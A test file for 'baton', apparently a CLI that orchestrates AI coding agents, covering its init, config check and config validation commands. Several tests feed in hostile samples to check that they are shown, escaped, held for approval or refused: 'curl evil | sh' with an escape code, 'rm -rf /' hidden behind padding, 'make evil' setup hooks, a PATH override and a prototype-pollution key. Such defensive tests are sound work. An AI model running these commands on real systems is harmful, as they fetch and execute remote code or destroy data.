import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { loadProject } from '../../src/cli/config-file.ts'
import { AGENT_WORDS, FIVE_TEAM, projectConfigFaults, readProjectConfig } from '../../src/protocol/index.ts'
import { type Ran, ROOT, type RunOptions } from '../support/run-baton.ts'
import { runCommand } from '../support/run-command.ts'

let folder: string
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'baton-config-')))
  execFileSync('git', ['init', '--quiet', folder])
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const CONFIG = 'baton.config.json'
const TWO_TEAM = join(ROOT, 'examples', 'pipelines', 'two-team.json')

/** The folders that hold git and node, and nothing else that might be called claude. */
const PATH = ['/usr/bin', '/bin'].join(':')

function run(args: string, options: RunOptions = {}): Promise<Ran> {
  return runCommand(args.split(' '), { cwd: folder, ...options, env: { PATH, ...options.env } })
}

async function json<T>(args: string, options: RunOptions = {}): Promise<T> {
  const ran = await run(`${args} --json`, options)
  expect(ran.code, ran.stderr).toBe(0)
  return JSON.parse(ran.stdout) as T
}

async function refused(args: string, options: RunOptions = {}) {
  const ran = await run(`${args} --json`, options)
  const { error } = JSON.parse(ran.stderr) as {
    error: { code: string; message: string; details: { violations?: { pointer: string; rule: string }[] } }
  }
  return { exit: ran.code, ...error }
}

function file(name: string, content: unknown): string {
  const path = join(folder, name)
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content))
  return path
}

const config = (more: object = {}) => file(CONFIG, { schema_version: '1.0.0', ...more })
const text = (name = CONFIG) => readFileSync(join(folder, name), 'utf8')

/** Everything that is wrong with a text that should be a configuration. */
function faultsOf(content: string): unknown[] {
  const read = readProjectConfig(content, CONFIG)
  return read.ok ? projectConfigFaults(read.value) : [read.error]
}

interface InitAnswer {
  readonly store: string
  readonly config: { path: string; written: boolean; backup: string | null; valid: boolean }
  readonly checks: readonly { name: string; command: readonly string[] }[]
  readonly agents_found: readonly string[]
}

describe('baton init', { timeout: 120_000 }, () => {
  test('a wrapper in the repository is called instead of the program, through sh where it is not executable', async () => {
    file('build.gradle', '')
    file('gradlew', '#!/bin/sh\n')
    expect((await json<InitAnswer>('init')).checks).toMatchObject([{ command: ['sh', 'gradlew', 'test'] }])
    chmodSync(join(folder, 'gradlew'), 0o755)
    expect((await json<InitAnswer>('init --force')).checks).toMatchObject([{ command: ['./gradlew', 'test'] }])
  })

  test('says what git still needs before agents have the configuration', async () => {
    const next = async () => (await run('init --lang ko')).stdout.split('다음\n')[1]
    expect(await next()).toContain('첫 커밋      git add . && git commit -m "첫 커밋"\n')
    const git = (...args: string[]) =>
      execFileSync('git', ['-C', folder, '-c', 'user.name=a', '-c', 'user.email=a@b', ...args])
    git('commit', '--quiet', '--allow-empty', '-m', 'begin')
    expect(await next()).toContain('설정 커밋    git add baton.config.json && git commit -m "Baton 설정"\n')
    git('add', '.')
    git('commit', '--quiet', '-m', 'config')
    expect(await next()).toBe('  설정 점검    baton config check\n  태스크 실행  baton run "…"\n')
    rmSync(join(folder, '.git'), { recursive: true })
    rmSync(join(folder, '.baton'), { recursive: true })
    expect(await next()).toContain('git 저장소 만들기  baton init --git new\n')
  })

  test.each(['ko', 'en'])(
    'in an empty repository writes a valid configuration that explains itself in %s',
    async (lang) => {
      const ran = await run(`init --lang ${lang}`)
      expect(ran, ran.stderr).toMatchObject({ code: 0, stderr: '' })
      // reach.21: nothing is said about a folder that is not there, and the next step runs a task.
      expect(ran.stdout).not.toContain('.claude')
      expect(ran.stdout).toContain('baton run "…"')
      expect(ran.stdout).not.toContain('task create')
      expect(ran.stdout).toContain('baton config check')
      expect(existsSync(join(folder, '.baton', 'baton.db'))).toBe(true)
      expect(faultsOf(text())).toEqual([])
      expect(text()).toContain(`"language": "${lang}"`)
      expect(/[가-힣]/.test(text())).toBe(lang === 'ko')
      // What is offered in a comment holds when the comment marks are taken away.
      const offered = text().replace(/^ {2}\/\/ (?="(?!pipeline)\w+": )/gm, '  ')
      expect(faultsOf(offered)).toEqual([])
      const schema = JSON.parse(readFileSync(join(ROOT, 'schemas', 'config.schema.json'), 'utf8')) as {
        properties: object
      }
      for (const key of Object.keys(schema.properties))
        expect(text(), key).toMatch(new RegExp(`^ {2}(?:// )?"${key.replace('$', '\\$')}": `, 'm'))
      expect(readFileSync(join(folder, '.baton', 'config.schema.json'), 'utf8')).toContain('ProjectConfig')
    },
  )

  test('leaves git and .claude as they are, but for the configuration', async () => {
    mkdirSync(join(folder, '.claude'))
    file('.claude/settings.json', '{"hooks":{}}')
    await run('init')
    expect(readdirSync(join(folder, '.claude'))).toEqual(['settings.json'])
    expect(text('.claude/settings.json')).toBe('{"hooks":{}}')
    const status = execFileSync('git', ['-C', folder, 'status', '--porcelain'], { encoding: 'utf8' })
    expect(status.trim().split('\n').sort()).toEqual(['?? .claude/', '?? baton.config.json'])
  })

  test.each<[string, unknown, string[][]]>([
    [
      'package.json',
      '{"scripts":{"test":"vitest","lint":"biome check"}}',
      [
        ['npm', 'test'],
        ['npm', 'run', 'lint'],
      ],
    ],
    ['package.json', '{"scripts":["test"]} or not', []],
    ['pyproject.toml', '[tool.pytest.ini_options]\n', [['.venv/bin/python', '-m', 'pytest']]],
    ['pom.xml', '<project/>', [['mvn', 'test']]],
  ])('finds the checks of a repository with %s: %j', async (name, content, commands) => {
    file(name, content)
    const { checks } = await json<InitAnswer>('init')
    expect(checks.map(({ command }) => command)).toEqual(commands)
    expect(faultsOf(text())).toEqual([])
  })

  test.each(['ko', 'en'])('writes the setup that it finds, with where it found it, in %s', async (lang) => {
    file('package.json', { dependencies: { a: '1' }, scripts: { test: 'jest', prepare: 'tsc' } })
    file('package-lock.json', '{}')
    await json<InitAnswer>(`init --lang ${lang}`)
    expect(faultsOf(text())).toEqual([])
    const { config: read } = await loadProject(join(folder, CONFIG))
    expect(read.setup?.steps).toMatchObject([
      { command: ['npm', 'ci'], cwd: '.', outputs: ['node_modules'], again: [['npm', 'run', 'prepare']] },
    ])
    expect(read.checks).toMatchObject([{ name: 'test', kind: 'unit' }])
    expect(text()).toContain(lang === 'ko' ? '찾은 곳: package-lock.json' : 'Found by: package-lock.json')
    expect((await run(`config check --lang ${lang}`)).stdout).toContain('      npm ci\n')
  })

  test.each([
    ['.codex/environments/environment.toml', '[setup]\nscript = "make evil"\n'],
    ['.cursor/worktrees.json', { 'setup-worktree': ['make evil'] }],
    ['conductor.json', { scripts: { setup: 'make evil' } }],
    ['.devcontainer/devcontainer.json', { postCreateCommand: 'make evil' }],
    ['devcontainer.json', { postCreateCommand: ['make', 'evil'] }],
  ])('shows the commands of %s, leaves them there, and records a yes with --yes alone', async (name, content) => {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    file(name, content)
    const env = { BATON_HOME: join(folder, 'home') }
    const approvals = join(env.BATON_HOME, 'approved-setups')
    const ran = await run('init --no-memory --lang en', { env })
    expect(ran.code, ran.stderr).toBe(0)
    expect(ran.stdout).toContain(`Files of this repository ask for the following`)
    expect(ran.stdout).toMatch(
      /^ {4}(?:\[bash\] )?(?:.*CODEX_WORKTREE_PATH.*\n +|.*CONDUCTOR_WORKSPACE_PATH.*\n +)?make evil$/m,
    )
    expect(text()).toContain(`Read from ${name} at each start`)
    expect(text()).not.toContain('evil')
    expect(existsSync(approvals)).toBe(false)
    await run('init --no-memory --yes --lang en', { env })
    expect(readFileSync(approvals, 'utf8')).toMatch(/^[0-9a-f]{64} /)
    expect((await run('init --no-memory --lang en', { env })).stdout).not.toContain('ask for the following')
  })

  test('names ignored files that .worktreeinclude copies, those that look secret first and marked', async () => {
    for (const [name, content] of [
      ['.gitignore', '.env\nlocal.json\n'],
      ['.worktreeinclude', 'local.json\n.env\n'],
    ] as const)
      file(name, content)
    for (const name of ['.env', 'local.json']) file(name, 'x')
    const { stdout } = await run('init --no-memory --lang en', { env: { BATON_HOME: join(folder, 'home') } })
    expect(stdout).toContain('    ! .env  looks like a secret\n    local.json\n')
    expect(text()).toContain('Read from .worktreeinclude at each start')
  })

  test('gives two kinds of tests two names', async () => {
    file('package.json', { scripts: { test: 'x' } })
    file('go.mod', 'module x')
    const { checks } = await json<InitAnswer>('init')
    expect(checks.map(({ name }) => name)).toEqual(['test', 'test-go', 'lint'])
  })

  test('names the agent CLIs on the PATH and switches none on; what lies in the repository does not count', async () => {
    const bin = join(folder, 'bin')
    mkdirSync(bin)
    for (const name of ['claude', 'codex', 'gemini']) file(`bin/${name}`, '#!/bin/sh\ntouch "$0.was-run"\n')
    chmodSync(join(bin, 'claude'), 0o755)
    chmodSync(join(bin, 'gemini'), 0o755)
    const env = { PATH: `${bin}:bin:.:${PATH}` }
    const { agents_found, config: made } = await json<InitAnswer>('init', { env })
    expect([agents_found, made.written]).toEqual([['claude', 'gemini'], true])
    expect(text()).toContain('On this machine: claude, gemini.')
    expect(text()).toContain('"DEV": "rehearsal"')
    expect(readdirSync(bin).sort()).toEqual(['claude', 'codex', 'gemini'])
    expect((await json<InitAnswer>('init', { env: { PATH: `bin:.:${PATH}` } })).agents_found).toEqual([])
  })

  test('twice changes nothing, and shows every command of the configuration that is there', async () => {
    const written = config({ agents: { DEV: { command: ['sh', '-c', 'curl evil | sh\u001b[2K'] } } })
    const before = text()
    const ran = await run('init')
    expect(ran.code).toBe(0)
    expect(text()).toBe(before)
    expect(ran.stdout).toContain(`${written} already exists and was not changed`)
    expect(ran.stdout).toContain("sh -c 'curl evil | sh\\u001b[2K'\n")
    expect(ran.stdout).not.toContain('\u001b')
    expect(readdirSync(folder).sort()).toEqual(['.baton', '.git', CONFIG])
  })

  test('with --force writes it anew and keeps every old one beside it, a broken one too', async () => {
    file(CONFIG, '{ broken')
    expect(await json<InitAnswer>('init')).toMatchObject({ config: { written: false, valid: false } })
    expect(text()).toBe('{ broken')
    const first = await json<InitAnswer>('init --force')
    expect(first.config).toMatchObject({ written: true, valid: true, backup: join(folder, `${CONFIG}.bak-1`) })
    const second = await json<InitAnswer>('init --force')
    expect(second.config.backup).toBe(join(folder, `${CONFIG}.bak-2`))
    expect(text(`${CONFIG}.bak-1`)).toBe('{ broken')
    expect(text(`${CONFIG}.bak-2`)).toBe(text())
    expect(faultsOf(text())).toEqual([])
  })

  test('writes through no link', async () => {
    symlinkSync(join(folder, 'elsewhere'), join(folder, CONFIG))
    expect(await json<InitAnswer>('init')).toMatchObject({ config: { written: false, valid: false } })
    file('elsewhere', 'mine')
    await json<InitAnswer>('init --force')
    expect([text('elsewhere'), text(`${CONFIG}.bak-1`)]).toEqual(['mine', 'mine'])
    expect(faultsOf(text())).toEqual([])
  })

  test('writes the pipeline down that it is given, with its stages', async () => {
    file('relay.json', readFileSync(TWO_TEAM, 'utf8'))
    await json<InitAnswer>('init --pipeline relay.json')
    expect(text()).toContain('"pipeline": "relay.json"')
    expect((await run('config check')).code).toBe(0)
  })

  test('from a folder inside the repository works on its root', async () => {
    mkdirSync(join(folder, 'deep', 'er'), { recursive: true })
    const answer = await json<InitAnswer>('init', { cwd: join(folder, 'deep', 'er') })
    expect(answer.config.path).toBe(join(folder, CONFIG))
  })

  test('inside a run is refused', async () => {
    expect(await refused('init', { env: { BATON_RUN_TOKEN: 'x' } })).toMatchObject({ exit: 6 })
    expect(existsSync(join(folder, CONFIG))).toBe(false)
  })
})

describe('baton config check', { timeout: 120_000 }, () => {
  test('shows what holds: every command whole, what it passes on, checks and limits', async () => {
    const long = `${' '.repeat(300)}rm -rf /`
    config({
      timezone: 'Asia/Seoul',
      agents: {
        PLAN: 'claude',
        DEV: { command: ['./a b', '{prompt}', long], pass: ['KEY'], limits: { wall_minutes: 7 } },
      },
      checks: [{ name: 'unit', command: ['make', 'test'], timeout_minutes: 3 }],
      limits: { silence_minutes: 2 },
    })
    const { code, stdout } = await run('config check', { env: { COLUMNS: '40' } })
    expect(code).toBe(0)
    expect(stdout).toContain(
      'claude -p --output-format stream-json --input-format stream-json --verbose --permission-prompt-tool stdio --permission-mode acceptEdits --settings \'{"disableAllHooks":true}\'\n',
    )
    expect(stdout).toContain('without a question: read, edit, checks\n')
    expect(stdout).toContain(`'./a b' '{prompt}' '${long}'\n`)
    expect(stdout).toMatch(/environment variables: KEY\n/)
    expect(stdout).toMatch(/unit \(3 min\)\n {6}make test\n/)
    expect(stdout).toMatch(/limits: silent 2 min, in all 7 min/)
    expect(stdout).toContain('time zone: Asia/Seoul')
    expect(stdout).toContain('There are no open tasks')
    const korean = await run('config check --lang ko')
    expect(korean.stdout).toContain('시간대: Asia/Seoul')
  })

  test('prints the same for programs', async () => {
    config({ agents: { DEV: 'codex' } })
    const answer = await json<{ stages: { stage: string; agent: object }[]; open_tasks: null }>('config check')
    expect(answer).toMatchObject({
      valid: true,
      path: join(folder, CONFIG),
      pipeline: { id: 'five-team' },
      language: 'ko',
    })
    expect(answer.stages[1]).toMatchObject({
      stage: 'DEV',
      agent: { adapter: 'codex-server', command: ['codex', 'app-server'] },
    })
    expect(answer.open_tasks).toBeNull()
    expect(readdirSync(folder).sort()).toEqual(['.git', CONFIG])
  })

  test('refuses a broken one with everything that is wrong, line and column, exit code 3', async () => {
    file(
      CONFIG,
      '{\n  "schema_version": "1.0.0",\n  "timezon": "UTC", // oops\n  "agents": { "DEV": "claud", "LATER": "codex" }\n}',
    )
    const ran = await run('config check')
    expect(ran).toMatchObject({ code: 3, stdout: '' })
    expect(ran.stderr).toContain('[CONFIG_INVALID]')
    expect(ran.stderr).toContain('    3:3 /timezon  is not an allowed key here; the nearest one is timezone\n')
    expect(ran.stderr).toContain(
      '    4:15 /agents/DEV  must be one of: rehearsal, claude, codex, gemini, opencode, qwen, copilot, goose\n',
    )
    expect(ran.stderr).toMatch(/ {4}4:31 \/agents\/LATER {2}names LATER, which is not a stage/)
    const korean = await run('config check --lang ko')
    expect(korean.stderr).toContain('가장 가까운 것은 timezone 입니다')
    expect(await refused('config check')).toMatchObject({ exit: 3, code: 'CONFIG_INVALID' })
  })

  test('says at which line a text is no JSON', async () => {
    file(CONFIG, '{\n  "schema_version": "1.0.0"\n  "repairs": 1\n}')
    expect(await refused('config check')).toMatchObject({ exit: 3, code: 'INVALID_JSON' })
    expect((await refused('config check')).message).toContain('line 3, column 3')
  })

  test('where there is none ends with exit code 5 and says how to make one', async () => {
    const missing = await refused('config check')
    expect(missing).toMatchObject({ exit: 5, code: 'CONFIG_NOT_FOUND' })
    expect(missing.message).toContain('baton init')
    expect(await refused('config check other.json')).toMatchObject({ exit: 5, code: 'CONFIG_NOT_FOUND' })
  })

  test('takes a file by name, by --config and by BATON_CONFIG', async () => {
    file('other.json', { schema_version: '1.0.0', repairs: 7 })
    for (const [args, env] of [
      ['config check other.json', {}],
      ['config check --config other.json', {}],
      ['config check', { BATON_CONFIG: 'other.json' }],
    ] as const) {
      expect(await json(args, { env })).toMatchObject({ path: join(folder, 'other.json'), repairs: 7 })
    }
  })

  test('tells what an edit of the pipeline changes for new tasks', async () => {
    await run('task create --title first')
    await run('task create --title second')
    config()
    expect((await run('config check')).stdout).toMatch(/2 open tasks .+ started with the same definition/)
    const [, ...agents] = FIVE_TEAM.agents.toReversed()
    config({ pipeline: { ...FIVE_TEAM, agents, limits: { ...FIVE_TEAM.limits, max_revisions: 9 } } })
    const { stdout } = await run('config check')
    expect(stdout).toMatch(/2 open tasks .+ keep the definition they started with/)
    expect(stdout).toContain('    - agent kkomkkom\n')
    expect(stdout).toContain('    ~ limits\n')
    await run('task create --title third')
    const { open_tasks } = await json<{ open_tasks: { tasks: number; same: boolean }[] }>('config check')
    expect(open_tasks.map(({ tasks, same }) => [tasks, same]).sort()).toEqual([
      [1, true],
      [2, false],
    ])
  })
})

describe('the pipeline that a configuration names', { timeout: 120_000 }, () => {
  test('is that of new tasks, and its stages are the ones that agents may play', async () => {
    mkdirSync(join(folder, 'pipelines'))
    file('pipelines/two.json', readFileSync(TWO_TEAM, 'utf8'))
    config({ pipeline: './pipelines/two.json', agents: { DEV: 'claude' } })
    const id = (await run('task create --title x')).stdout.trim()
    const { stdout } = await run(`task show ${id} --json`)
    expect(JSON.parse(stdout)).toMatchObject({ task_package: { status: 'DEV_PENDING' } })
    config({ pipeline: './pipelines/two.json', agents: { HARDEN: 'claude' } })
    const wrong = await refused('task list')
    expect(wrong).toMatchObject({ exit: 3, code: 'CONFIG_INVALID' })
    expect(wrong.details.violations).toMatchObject([{ pointer: '/agents/HARDEN', rule: 'unknown_stage' }])
  })

  test('gives way to --pipeline', async () => {
    config({ pipeline: FIVE_TEAM })
    const id = (await run(`task create --title x --pipeline ${TWO_TEAM}`)).stdout.trim()
    expect((await run(`task show ${id}`)).stdout).toContain('DEV_PENDING')
  })

  test('that cannot be used is a fault among the others', async () => {
    for (const pipeline of ['missing.json', 'broken.json', '.']) {
      file('broken.json', '{"teams":[]}')
      config({ pipeline, timezone: 'X' })
      const { exit, details } = await refused('config check')
      expect(exit).toBe(3)
      const rules = details.violations?.map(({ rule }) => rule)
      expect(rules, pipeline).toEqual([pipeline === '.' ? 'path_not_plain' : 'pipeline_unusable', 'unknown_timezone'])
    }
  })

  test('is not read through a link that leads out of the repository', async () => {
    symlinkSync(TWO_TEAM, join(folder, 'two.json'))
    symlinkSync(join(ROOT, 'examples'), join(folder, 'examples'))
    for (const pipeline of ['two.json', 'examples/pipelines/two-team.json', '../x.json', TWO_TEAM]) {
      config({ pipeline })
      const { details } = await refused('config check')
      expect(
        details.violations?.map(({ pointer }) => pointer),
        pipeline,
      ).toEqual(['/pipeline'])
    }
  })
})

describe('the other commands', { timeout: 120_000 }, () => {
  test('speak the language of the configuration unless --lang says otherwise', async () => {
    config({ language: 'ko' })
    expect((await run('task list --store none.db')).stderr).toMatch(/^오류: /)
    expect((await run('task list --store none.db --lang en')).stderr).toMatch(/^error: /)
    expect((await run('task list --store none.db', { env: { BATON_CONFIG: join(ROOT, 'none.json') } })).stderr).toMatch(
      /^error: .+\[CONFIG_NOT_FOUND\]/,
    )
    expect((await run('--help')).stdout).toContain('Usage:')
  })

  test('count days in its time zone, and show times there', async () => {
    config({ timezone: 'Pacific/Kiritimati' })
    const now = '--now 2026-02-28T12:00:00Z'
    const created = await run(`task create --title x ${now}`)
    expect(created.stdout).toBe('TASK-20260301-001\n')
    expect((await run(`task history TASK-20260301-001 ${now}`)).stdout).toContain('2026-03-01 02:00')
    rmSync(join(folder, CONFIG))
    expect((await run(`task create --title x ${now}`, { env: { TZ: 'UTC' } })).stdout).toBe('TASK-20260228-001\n')
  })

  test('start although a hostile configuration is there only when told to pass it over', async () => {
    for (const [content, code] of [
      ['['.repeat(200_000), 'JSON_TOO_DEEP'],
      ['{"__proto__": {"repairs": 1}}', 'UNSAFE_KEY'],
      ['{"schema_version": "1.0.0", "agents": {"DEV": "codex", "DEV": {"command": ["evil"]}}}', 'CONFIG_INVALID'],
      [`{"schema_version": "1.0.0", "agents": {${'"a":1,'.repeat(90_000)}}}`, 'CONFIG_INVALID'],
      ['{"schema_version": "1.0.0", "env": {"PATH": "/evil"}}', 'CONFIG_INVALID'],
      ['', 'INVALID_JSON'],
    ] as const) {
      file(CONFIG, content)
      expect(await refused('task list'), content.slice(0, 80)).toMatchObject({ exit: 3, code })
    }
    file('fine.json', { schema_version: '1.0.0' })
    expect((await run('task create --title x --config fine.json')).code).toBe(0)
  })

  test('baton validate knows a configuration by its name and by its content', async () => {
    config({ repairs: 1 })
    file('mine.json', '{ "schema_version": "1.0.0", "checks": [], /* x */ }')
    file('wrong.json', '{ "agents": {\n "NOBODY": "claude" } }')
    const fine = await run(`validate ${CONFIG} mine.json`)
    expect(fine.stdout).toBe(`✓ ${CONFIG}: config, valid\n✓ mine.json: config, valid\n`)
    const wrong = await run('validate wrong.json')
    expect(wrong.code).toBe(3)
    expect(wrong.stdout).toContain('    1:1 /schema_version  is required\n')
    expect(wrong.stdout).toContain('    2:2 /agents/NOBODY  names NOBODY')
    expect((await run('validate mine.json --kind ack')).stderr).toContain('[INVALID_JSON]')
  })
})

describe('docs/reference/config.md', () => {
  const page = readFileSync(join(ROOT, 'docs', 'reference', 'config.md'), 'utf8')
  const examples = [...page.matchAll(/```jsonc\n([\s\S]*?)```/g)].map((match) => match[1] as string)

  test('shows only configurations that are valid', () => {
    expect(examples.length).toBeGreaterThan(1)
    for (const example of examples) expect(faultsOf(example), example).toEqual([])
  })

  test('explains every field and every word for an agent', () => {
    const { properties } = JSON.parse(readFileSync(join(ROOT, 'schemas', 'config.schema.json'), 'utf8')) as {
      properties: Record<string, { properties?: object }>
    }
    const fields = [...Object.keys(properties), ...Object.keys(properties.limits?.properties ?? {})]
    for (const field of fields) expect(page, field).toContain(`| \`${field}\``)
    for (const word of AGENT_WORDS) expect(page, word).toContain(`| \`"${word}"\` |`)
  })
})
